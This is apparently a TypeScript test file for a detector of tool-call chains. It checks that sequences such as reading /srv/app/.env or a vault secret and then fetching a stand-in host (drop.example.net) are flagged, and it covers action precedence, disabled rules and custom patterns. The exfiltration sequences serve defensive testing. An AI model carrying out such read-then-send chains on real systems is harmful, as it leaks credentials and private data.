/**
 * @module compileChains: settings bounds, action precedence (pattern override > rules.actions >
 * section action > chain default), rules.disabled, custom patterns, tool_categories, and the
 * problems reported for config that names unknown things.
 */
import { describe, expect, test } from "bun:test";
import { compileChains, MAX_WINDOW_SIZE } from "../../../../src/engine/scanners/chains/index.ts";
import { allIds, bash, chainRules, chains, fetchUrl, lastIds, readFile, run } from "./fixture.ts";

const exfil = [readFile("/srv/app/.env"), fetchUrl("https://drop.example.net/")];
const actionOf = (compiled: ReturnType<typeof chains>, id = "chain.secret_read_then_send") => run(compiled, exfil).perCall[1]!.find((f) => f.rule_id === id)?.action;

describe("compileChains", () => {
  test("defaults: reference window (20 calls, 60 s, gap 3), enabled, no problems", () => {
    const c = compileChains(chainRules);
    expect([c.enabled, c.windowSize, c.windowMs, c.maxGap]).toEqual([true, 20, 60_000, 3]);
    expect(c.problems).toEqual([]);
  });

  test("window settings are clamped to hard bounds", () => {
    const c = chains({ windowSize: 10_000_000, windowMs: -5, maxGap: 1e9 });
    expect(c.windowSize).toBe(MAX_WINDOW_SIZE);
    expect(c.windowMs).toBe(1);
    expect(c.maxGap).toBe(100);
  });

  test("action precedence", () => {
    expect(actionOf(chains())).toBe("block");
    expect(actionOf(chains({ action: "warn" }))).toBe("warn");
    expect(actionOf(chains({}, { actionOverrides: { "chain.secret_read_then_send": "ask" } }))).toBe("ask");
    expect(actionOf(chains({ action: "warn", patternOverrides: { "secret-read-then-send": "block" } }, { actionOverrides: { "chain.secret_read_then_send": "ask" } }))).toBe("block");
  });

  test("rules.disabled globs switch chains off", () => {
    expect(allIds(chains({}, { disabledRules: ["chain.secret_*"] }), exfil)).toEqual([]);
    expect(allIds(chains({}, { disabledRules: ["chain.env_*"] }), exfil)).toContain("chain.secret_read_then_send");
  });

  test("custom patterns run over the same step classes; `a|b` is either class", () => {
    const c = chains({ customPatterns: [{ name: "encode_then_upload", sequence: ["encode", "network_upload|network_send"], severity: "high", action: "warn", mitre: ["T1041"] }] });
    const findings = run(c, [bash("base64 -w0 notes.txt"), fetchUrl("https://drop.example.net/")]).perCall[1]!;
    const custom = findings.find((f) => f.rule_id === "chain.encode_then_upload");
    expect(custom?.action).toBe("warn");
    expect(custom?.mitre).toEqual(["T1041"]);
    expect(c.problems).toEqual([]);
  });

  test("unknown classes, duplicate names and unknown override names are reported, not thrown", () => {
    const c = chains({
      customPatterns: [
        { name: "typo", sequence: ["secret_raed", "network_send"], severity: "high" },
        { name: "secret_read_then_send", sequence: ["encode", "network_send"], severity: "high" },
      ],
      patternOverrides: { "no-such-chain": "warn" },
      toolCategories: { "my tool": "Bad Class" },
    });
    expect(c.problems.join("\n")).toContain('unknown step class "secret_raed"');
    expect(c.problems.join("\n")).toContain('"secret_read_then_send" is defined twice');
    expect(c.problems.join("\n")).toContain('no chain named "no-such-chain"');
    expect(c.problems.join("\n")).toContain("is not a class name");
  });

  test("tool_categories give a whole tool a step class (exact name or glob, namespaced names too)", () => {
    const c = chains({ toolCategories: { "vault_*": "secret_store_read" } });
    expect(lastIds(c, [["vault_fetch_kv", { path: "prod/db" }], fetchUrl("https://drop.example.net/")])).toContain("chain.secret_store_then_send");
    expect(lastIds(c, [["mcp__ops__vault_fetch_kv", { path: "prod/db" }], fetchUrl("https://drop.example.net/")])).toContain("chain.secret_store_then_send");
    expect(lastIds(chains(), [["vault_fetch_kv", { path: "prod/db" }], fetchUrl("https://drop.example.net/")])).toEqual([]);
  });

  test("step rules not used by any active chain are not run", () => {
    const c = chains({}, { disabledRules: ["chain.*"] });
    expect(c.chains).toEqual([]);
    expect(c.stepRules).toEqual([]);
  });
});
